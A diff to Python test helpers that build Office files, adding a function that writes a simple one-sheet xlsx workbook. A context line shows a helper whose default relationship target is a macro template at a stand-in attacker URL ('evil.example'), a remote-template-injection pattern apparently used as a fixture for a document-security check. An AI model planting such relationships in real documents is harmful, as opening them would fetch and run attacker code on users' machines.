@@ -92,6 +92,37 @@ def office(kind: str = "xlsx", parts: dict[str, bytes | str] | None = None, cont
     return zipped(whole | (parts or {}))
 
 
+def sheet(rows: list[list[object]]) -> bytes:
+    """A workbook of one sheet: texts, numbers, and None for an empty cell."""
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+    def cell(place: str, value: object) -> str:
+        if value is None:
+            return ""
+        if isinstance(value, str):
+            return f'<c r="{place}" t="inlineStr"><is><t>{value}</t></is></c>'
+        return f'<c r="{place}"><v>{value}</v></c>'
+
+    lines = "".join(
+        f'<row r="{n}">{"".join(cell(f"{chr(65 + i)}{n}", v) for i, v in enumerate(row))}</row>'
+        for n, row in enumerate(rows, 1)
+    )
+    related = "http://schemas.openxmlformats.org/package/2006/relationships"
+    return office(
+        "xlsx",
+        {
+            "_rels/.rels": f'<Relationships xmlns="{related}"><Relationship Id="r1" Type="{of}/officeDocument" '
+            'Target="xl/workbook.xml"/></Relationships>',
+            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{of}"><sheets><sheet name="測定" sheetId="1" r:id="r1"/>'
+            "</sheets></workbook>",
+            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{related}"><Relationship Id="r1" Type="{of}/worksheet" '
+            'Target="worksheets/sheet1.xml"/></Relationships>',
+            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{lines}</sheetData></worksheet>',
+        },
+    )
+
+
 def relation(kind: str, target: str = "https://evil.example/x.dotm") -> str:
     return (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
